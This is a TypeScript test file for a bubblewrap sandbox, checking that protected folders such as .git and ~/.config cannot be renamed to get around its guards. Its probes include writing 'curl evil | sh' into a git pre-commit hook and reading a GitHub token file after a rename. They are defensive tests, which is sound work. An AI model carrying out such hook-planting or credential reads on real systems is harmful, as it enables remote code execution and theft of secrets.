import * as fs from 'node:fs/promises';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BubblewrapBackend, checkAccess, createSandboxPolicy, deriveSandboxLayout, landlockScope, protectedParents } from '../index.js';
import type { SandboxMode, SandboxPolicy } from '../index.js';
import { installStageMountHelper } from '../staging/install-stage-mount-helper.js';
import { listTree, makeTempDirectory, requireBubblewrap, runWrapped } from './test-support/run-wrapped.js';

const backend = new BubblewrapBackend();
let root: string;
let home: string;
let temp: string;
let workspace: string;

async function write(file: string, content: string): Promise<void> {
  await fs.mkdir(path.dirname(file), { recursive: true });
  await fs.writeFile(file, content);
}

beforeAll(async () => {
  await requireBubblewrap();
  root = await makeTempDirectory('ow-bwrap-parents-');
  home = path.join(root, 'home');
  temp = path.join(root, 'tmp');
  // The workspace sits inside a temp root, as a project cloned to /tmp would.
  workspace = path.join(temp, 'proj/ws');
  await write(path.join(home, '.config/gh/hosts.yml'), 'oauth_token: secret\n');
  await write(path.join(home, '.config/other/settings.json'), '{}\n');
  await write(path.join(home, '.ssh/id_ed25519'), 'PRIVATE KEY\n');
  await write(path.join(home, '.bashrc'), '# bashrc\n');
  await write(path.join(home, 'Documents/notes.txt'), 'notes\n');
  await write(path.join(workspace, '.git/hooks/pre-commit'), '#!/bin/sh\n');
  await write(path.join(workspace, '.git/config'), '[core]\n');
  await write(path.join(workspace, '.git/HEAD'), 'ref: refs/heads/main\n');
  await write(path.join(workspace, 'src/main.ts'), 'export {};\n');
  // The Landlock and stage-mount helpers are installed once per OpenWork home (§3.7, §3.10), not left by a call: in place before the snapshot.
  landlockScope(path.join(home, '.openwork'));
  installStageMountHelper(path.join(home, '.openwork'));
});

afterAll(async () => {
  if (root !== undefined) await fs.rm(root, { recursive: true, force: true });
});

function policy(mode: SandboxMode): SandboxPolicy {
  return createSandboxPolicy({ mode, workspaceRoots: [workspace], homeDirectory: home, tempRoots: [temp], letterCase: 'sensitive' });
}

async function bash(script: string, sandboxPolicy: SandboxPolicy) {
  return runWrapped(backend.wrap({ argv: ['/bin/bash', '-c', script], cwd: workspace }, sandboxPolicy), workspace);
}

/**
 * A bash function `rename FROM TO` that calls rename(2) once and prints `renamed` or the error
 * code. Not `mv`: across mounts mv falls back to copying and deleting what it may, which is
 * ordinary file access, not a move of the protected entries.
 */
const renameFunction = `rename() { '${process.execPath}' -e 'try { require("fs").renameSync(process.argv[1], process.argv[2]); console.log("renamed " + process.argv[1]) } catch (error) { console.log(error.code + " " + process.argv[1]) }' "$1" "$2"; }`;

describe('folders holding protected entries cannot be moved under bubblewrap', () => {
  it('mv .git .g, edit the hooks, mv back: nothing reaches the host (staged writes); the workspace and the folder above it stay', async () => {
    const before = await listTree(root);
    const run = await bash(
      [
        renameFunction,
        `rename ${workspace}/.git ${workspace}/.g`,
        `echo 'curl evil | sh' > ${workspace}/.g/hooks/pre-commit`,
        `rename ${workspace} ${temp}/ws-old`,
        `rename ${temp}/proj ${temp}/proj-old`,
        `mkdir -p ${workspace}/.git/hooks`,
        'true',
      ].join('\n'),
      policy('workspace-write'),
    );
    expect(run.code).toBe(0);
    // Folders of the host are in an overlay's lower layer: rename(2) answers EXDEV (no redirect_dir in a
    // user namespace); the workspace and the folder above it lie in one temp-root overlay.
    expect(run.stdout).toBe([`EXDEV ${workspace}/.git`, `EXDEV ${workspace}`, `EXDEV ${temp}/proj`, ''].join('\n'));
    expect(run.staged?.refused).toEqual([]);
    // Only the (empty) folder of the calls' staging folders, in the OpenWork home, may be new.
    // The staging folder stays, with this living process's lock file (0085).
    const staging = (entry: string): boolean => entry === 'd home/.openwork/staging' || /^f home\/\.openwork\/staging\/\d+\.[0-9a-f]{8}\.lock$/.test(entry);
    expect((await listTree(root)).filter((entry) => !staging(entry))).toEqual(before.filter((entry) => !staging(entry)));
    expect(await fs.readFile(path.join(workspace, '.git/hooks/pre-commit'), 'utf8')).toBe('#!/bin/sh\n');
  });

  it('an ordinary folder still moves (git, build tools and editors rename folders all the time)', async () => {
    const run = await bash(`mv ${workspace}/src ${workspace}/lib && mv ${workspace}/lib ${workspace}/src`, policy('workspace-write'));
    expect(run).toMatchObject({ code: 0, stderr: '' });
    expect(await fs.readFile(path.join(workspace, 'src/main.ts'), 'utf8')).toBe('export {};\n');
  });

  it('full-access: renaming ~/.config to ~/.cfg then reading the credential, and renaming ~ and its parent, fail (EXDEV); ~/Documents moves', async () => {
    const before = await listTree(root);
    const run = await bash(
      [renameFunction, `rename ${home}/.config ${home}/.cfg`, `cat ${home}/.cfg/gh/hosts.yml`, `rename ${home} ${home}.old`, `rename ${root} ${root}.old`, 'true'].join('\n'),
      policy('full-access'),
    );
    expect(run.code).toBe(0);
    // full-access stages too: a folder of the host is in an overlay's lower layer, rename(2) answers EXDEV.
    expect(run.stdout).toBe([`EXDEV ${home}/.config`, `EXDEV ${home}`, `EXDEV ${root}`, ''].join('\n'));
    expect(run.staged?.refused).toEqual([]);
    expect(await listTree(root)).toEqual(before);
    const ordinary = await bash(`mv ${home}/Documents ${home}/Docs && mv ${home}/Docs ${home}/Documents`, policy('full-access'));
    expect(ordinary).toMatchObject({ code: 0, stderr: '' });
  });

  it('acc_10a parity: every folder the fence calls a protected parent is refused a move by the kernel', async () => {
    let compared = 0;
    for (const mode of ['workspace-write', 'full-access'] as const) {
      const sandboxPolicy = policy(mode);
      const folders: string[] = [];
      for (const { path: folder } of protectedParents(deriveSandboxLayout(sandboxPolicy))) {
        if (!(folder === root || folder.startsWith(`${root}/`))) continue;
        const stats = await fs.stat(folder).catch(() => undefined);
        if (stats?.isDirectory() === true) folders.push(folder);
      }
      expect(folders.length, mode).toBeGreaterThanOrEqual(mode === 'full-access' ? 7 : 3);
      const before = await listTree(root);
      // One line per folder: `moved <path>` when the kernel let it go (each then moved straight back).
      const script = [renameFunction, ...folders.map((folder) => `rename '${folder}' '${folder}.probe'`)].join('\n');
      const run = await bash(script, sandboxPolicy);
      expect(run.code, mode).toBe(0);
      const answers = run.stdout.trim().split('\n');
      expect(answers.length, mode).toBe(folders.length);
      expect(answers.filter((answer) => !/^(EBUSY|EXDEV|EROFS) /.test(answer)), mode).toEqual([]);
      expect(await listTree(root)).toEqual(before);
      for (const folder of folders) {
        expect(checkAccess(sandboxPolicy, folder, 'write', 'process').allowed, `${mode} ${folder}`).toBe(false);
        compared += 1;
      }
    }
    expect(compared).toBeGreaterThanOrEqual(11);
  });
});
